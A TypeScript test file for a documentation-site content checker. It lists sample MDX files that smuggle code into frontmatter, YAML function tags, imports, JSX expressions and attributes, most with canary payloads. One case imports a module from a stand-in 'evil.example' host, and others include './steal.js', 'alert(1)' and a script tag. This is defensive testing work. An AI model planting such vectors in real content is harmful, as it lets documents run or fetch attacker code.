import { question } from '../../testing/sample-files';
import { accordion, canaryCode, canaryRequire, type UnsoundCase, unsound, unsoundBody } from './case';

/** Files that bring code: none of it may run, neither in the build nor at a reader's. */

const sound = question();
const body = 'A sound paragraph of text.\n';
const canary = true;

/** Frontmatter of a language other than YAML that opens with `fence`. */
const fenced = (fence: string, content: string) => `${fence}\n${content}\n---\n${body}`;

const literal = (name: string) =>
  `{ question: 'What does the sample file ask?', answer: ${canaryRequire(name)} || 'An answer that is long enough.' }`;

/** JSX or an expression that stands in a paragraph. */
const inline = (name: string, write: (code: string) => string, says: RegExp): UnsoundCase => {
  const text = write(canaryCode(name));
  return unsoundBody(name, `Before.\n\n${text}\n`, text, says, { canary: text.includes('writeFileSync') });
};

const frontmatter: UnsoundCase[] = [
  unsound('frontmatter in ---js', fenced('---js', literal('js')), 1, /---|frontmatter/, { canary }),
  unsound('frontmatter in ---javascript', fenced('---javascript', literal('javascript')), 1, /---|frontmatter/, {
    canary,
  }),
  unsound('frontmatter in --- js with a space', fenced('--- js', literal('space')), 1, /---|frontmatter/, { canary }),
  unsound('frontmatter in ---JS in capitals', fenced('---JS', literal('capitals')), 1, /---|frontmatter/, { canary }),
  unsound('frontmatter in ---js with a tab', fenced('---\tjs', literal('tab')), 1, /---|frontmatter/, { canary }),
  unsound('frontmatter in ---json', fenced('---json', '{ "question": "What is it?" }'), 1, /---|frontmatter/),
  unsound('frontmatter in ---coffee', fenced('---coffee', `answer: ${canaryRequire('coffee')}`), 1, /---|frontmatter/, {
    canary,
  }),
  unsound('frontmatter in ---cson', fenced('---cson', `answer: "${'text '.repeat(10)}"`), 1, /---|frontmatter/),
  unsound('frontmatter in ---toml', fenced('---toml', 'question = "What is it?"'), 1, /---|frontmatter/),
  unsound('frontmatter between +++', `+++\nquestion = "What is it?"\n+++\n${body}`, 1, /---|frontmatter/),
  unsound('frontmatter between ;;; of JSON', `;;;\n{ "question": "What is it?" }\n;;;\n${body}`, 1, /---|frontmatter/),
  unsound('frontmatter that names its language yaml', sound.replace('---', '--- yaml'), 1, /---|frontmatter/),
  unsound('frontmatter fenced by four hyphens', sound.replace('---', '----'), 1, /---|frontmatter/),
  unsound('---js after a byte order mark', `\uFEFF${fenced('---js', literal('bom'))}`, 1, /---|frontmatter/, {
    canary,
  }),
  unsound('---js with CRLF', fenced('---js', literal('crlf')).replaceAll('\n', '\r\n'), 1, /---|frontmatter/, {
    canary,
  }),
  unsound('---js after a blank line', `\n${fenced('---js', literal('blank'))}`, 1, /---|frontmatter/, { canary }),
  unsound('---js after a space', ` ${fenced('---js', literal('indented'))}`, 1, /---|frontmatter/, { canary }),
  unsound(
    '---js fence after the first',
    sound.replace(body, `---js\n${literal('second')}\n---\n${body}`),
    '---js',
    /---|frontmatter|fence/,
    { canary },
  ),
  unsound(
    '---js fence after empty frontmatter',
    `---\n---js\n${literal('empty')}\n---\n${body}`,
    2,
    /---|frontmatter|fence|absence/,
    { canary },
  ),
  unsound(
    '---javascript fence with CRLF after the first',
    sound.replace(body, `---javascript\n${literal('second crlf')}\n---\n${body}`).replaceAll('\n', '\r\n'),
    '---javascript',
    /---|frontmatter|fence/,
    { canary },
  ),
  unsound(
    'frontmatter that a line of --- js ends',
    sound.replace(`---\n${body}`, `--- js\n${body}`),
    '--- js',
    /---|frontmatter|YAML|document/,
  ),
];

const functionTag = `!!js/function 'function () { ${canaryRequire('function tag')} }'`;

const tags: UnsoundCase[] = [
  unsound('tag !!js/function', question({ question: functionTag }), '!!js', /js\/function|tag/, { canary }),
  unsound('tag !!js/regexp', question({ keywords: '[!!js/regexp /a+/]' }), '!!js', /js\/regexp|tag/),
  unsound('tag !!js/undefined', question({ keywords: "!!js/undefined ''" }), '!!js', /js\/undefined|tag/),
  unsound(
    'tag of a function in its long form',
    question({ answer: `!<tag:yaml.org,2002:js/function> "function () { ${canaryRequire('long tag')} }"` }),
    '!<tag',
    /js\/function|tag/,
    { canary },
  ),
  unsound(
    'tag of a function that stands in for toString',
    question({ keywords: `[{ toString: ${functionTag} }]` }),
    'keywords:',
    /js\/function|tag|keywords/,
    { canary },
  ),
];

const importing: UnsoundCase[] = [
  unsoundBody('import of a module', "import fs from 'node:fs'\n\nText.\n", 'import', /import/),
  unsoundBody('import for its effect', "Text.\n\nimport './steal.js'\n", 'import', /import/),
  unsoundBody('import of everything', "import * as everything from 'node:fs'\n", 'import', /import/),
  unsoundBody('import from the web', "import x from 'https://evil.example/x.mjs'\n", 'import', /import/),
  unsoundBody(
    'import of data',
    `import 'data:text/javascript,${canaryCode('data import').replaceAll("'", '%27')}'\n`,
    'import',
    /import/,
    { canary },
  ),
  inline('dynamic import', () => dynamicImport('dynamic import'), /\{|import|expression/),
  inline('awaited dynamic import', () => `{await ${dynamicImport('awaited').slice(1)}`, /\{|import|expression|await/),
  unsoundBody('import after a heading', "## Heading\n\nimport x from './x'\n\nText.\n", 'import', /import/),
  unsoundBody('import over several lines', "import {\n  readFile,\n} from 'node:fs'\n\nText.\n", 'import', /import/),
];

function dynamicImport(name: string): string {
  return `{import('node:fs').then((fs) => fs.writeFileSync(process.env.CANARY || 'canary', '${name}'))}`;
}

const exporting: UnsoundCase[] = [
  unsoundBody(
    'export of a constant',
    `export const metadata = ${canaryCode('metadata')}\n\nText.\n`,
    'export',
    /export/,
    { canary },
  ),
  unsoundBody('export of metadata as data', "export const metadata = { title: 'Mine' }\n", 'export', /export/),
  unsoundBody(
    'export of a layout',
    `export default function Layout() { ${canaryCode('layout')} }\n\nText.\n`,
    'export',
    /export/,
    { canary },
  ),
  unsoundBody('export of an arrow function as layout', 'export default () => null\n\nText.\n', 'export', /export/),
  unsoundBody('re-export of a name', "export { default } from './layout'\n\nText.\n", 'export', /export/),
  unsoundBody('re-export of everything', "export * from 'node:fs'\n\nText.\n", 'export', /export/),
  unsoundBody('export of a name for generated pages', 'export const generateStaticParams = 1\n', 'export', /export/),
  unsoundBody('export after text', 'Text.\n\nexport const late = 1\n\nText.\n', 'export', /export/),
  unsoundBody('import and export in one block', "import a from 'a'\nexport { a }\n\nText.\n", 'import', /import/),
];

const expressions: UnsoundCase[] = [
  inline('expression on a line of its own', (code) => `{${code}}`, /\{|expression/),
  inline('expression in a sentence', (code) => `The result is {${code}} here.`, /\{|expression/),
  inline('expression of a number', () => 'One and one is {1 + 1}.', /\{|expression/),
  inline('expression of a text', () => "Written {'as text'}.", /\{|expression/),
  inline('function called where it stands', (code) => `{(() => { ${code}; return 'x' })()}`, /\{|expression/),
  inline('expression over several lines', (code) => `{\n  ${code}\n}`, /\{|expression/),
  inline('template literal', (code) => `{\`text \${${code}}\`}`, /\{|expression/),
  inline('tagged template', () => '{String.raw`text`}', /\{|expression/),
  inline('constructor of Function', (code) => `{(() => {}).constructor("${code}")()}`, /\{|expression/),
  inline('empty expression', () => 'Nothing {} here.', /\{|expression/),
  inline('comment as an expression', () => '{/* a comment */}', /\{|expression/),
  inline('comment as an expression in a sentence', () => 'Text {/* hidden */} text.', /\{|expression/),
  inline('line comment as an expression', () => '{// hidden\n}', /\{|expression/),
  inline('global name', () => '{globalThis}', /\{|expression/),
  inline('props of the page', () => '{props.components}', /\{|expression/),
  inline('expression in link text', (code) => `See [the {${code}} part](https://example.org/).`, /\{|expression/),
  inline('expression in a heading', (code) => `## Heading {${code}}`, /\{|expression/),
  inline('expression in emphasis', (code) => `Very **strong {${code}}**.`, /\{|expression/),
  inline('expression in a quotation', (code) => `> Quoted {${code}}`, /\{|expression/),
  inline('expression in a list item', (code) => `- Item {${code}}`, /\{|expression/),
  unsoundBody(
    'expression in a nested list item',
    `- One\n  - Two\n    - Three {${canaryCode('nested list')}}\n`,
    'Three',
    /\{|expression/,
    { canary },
  ),
  unsoundBody(
    'expression in a table cell',
    `| A | B |\n| --- | --- |\n| 1 | {${canaryCode('table').replaceAll('||', '??')}} |\n`,
    '| 1 |',
    /\{|expression/,
    { canary },
  ),
  unsoundBody(
    'expression inside a component',
    `<Callout kind="note">\n\nText {${canaryCode('callout')}}\n\n</Callout>\n`,
    'Text',
    /\{|expression/,
    { canary },
  ),
  unsoundBody(
    'expression on its own inside a component',
    `<Callout kind="note">\n\n{${canaryCode('callout flow')}}\n\n</Callout>\n`,
    '{',
    /\{|expression/,
    { canary },
  ),
  inline('expression in the text of a term', (code) => `A <Term name="term">{${code}}</Term>.`, /\{|expression|Term/),
];

const attributes: UnsoundCase[] = [
  inline('expression as attribute value', (code) => `<Callout kind={${code}}>\n\nText.\n\n</Callout>`, /kind|\{/),
  inline('text in an expression as attribute value', () => `<Callout kind={'note'}>\n\nT.\n\n</Callout>`, /kind|\{/),
  inline('number in an expression as attribute value', () => accordion('speed={300}'), /speed|\{/),
  inline('truth in an expression as attribute value', () => accordion('exclusive={true}'), /exclusive|\{/),
  inline('template literal as attribute value', () => '<Callout kind={`note`}>\n\nText.\n\n</Callout>', /kind|\{/),
  inline('spread of an object', (code) => `<Callout kind="note" {...(${code})}>\n\nT.\n\n</Callout>`, /\.\.\.|\{/),
  inline('spread of a literal', () => '<Callout {...{ kind: "note" }}>\n\nText.\n\n</Callout>', /\.\.\.|\{/),
  inline('spread in a term', () => 'A <Term {...props}>term</Term>.', /\.\.\.|\{/),
  inline('JSX as attribute value', () => '<Callout kind="note" title={<b>Bold</b>}>\n\nT.\n\n</Callout>', /title|\{/),
  inline('JSX without braces as attribute value', () => '<Callout title=<b/> kind="note">\n\nT.\n\n</Callout>', /</),
  inline(
    'event handler with code',
    (code) => `<Callout kind="note" onClick={() => ${code}}>\n\nT.\n\n</Callout>`,
    /on/,
  ),
  inline('event handler of text', () => '<Callout kind="note" onclick="alert(1)">\n\nT.\n\n</Callout>', /onclick/),
  inline(
    'dangerouslySetInnerHTML on a component',
    () => '<Callout kind="note" dangerouslySetInnerHTML={{ __html: "<script>1</script>" }}>\n\nT.\n\n</Callout>',
    /dangerouslySetInnerHTML|\{/,
  ),
  inline(
    'dangerouslySetInnerHTML as text',
    () => '<Callout kind="note" dangerouslySetInnerHTML="<b>bold</b>">\n\nT.\n\n</Callout>',
    /dangerouslySetInnerHTML/,
  ),
  inline('expression in the citation of a section', () => `Text <Spec version="5.0" section={'4.2'} />.`, /section|\{/),
];

const glossary: UnsoundCase = {
  name: 'expression in a glossary term',
  path: 'glossary/sample.mdx',
  text: `---\nterm: Sample\ndefinition: What the word sample means, in plain text that is long enough.\n---\n{${canaryCode('term')}}\n`,
  line: 5,
  says: /\{|expression/,
  canary,
};

export const code: UnsoundCase[] = [
  ...frontmatter,
  ...tags,
  ...importing,
  ...exporting,
  ...expressions,
  ...attributes,
  glossary,
];
